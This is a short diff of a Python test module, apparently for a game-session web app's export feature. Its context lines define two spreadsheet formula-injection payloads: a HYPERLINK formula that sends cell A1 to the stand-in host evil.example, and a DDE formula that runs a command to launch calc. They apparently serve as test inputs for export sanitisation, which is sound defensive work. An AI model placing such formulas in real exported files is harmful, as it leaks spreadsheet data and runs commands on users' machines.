@@ -21,7 +21,7 @@ from tests.web.live import roll
 from tests.web.test_session_log import export
 
 #: The random tables' own table (a FastTest campaign with a caster and a running session).
-table = test_random_tables.table
+pytestmark = test_random_tables.TABLE
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 CALC = "=cmd|' /C calc'!A0"
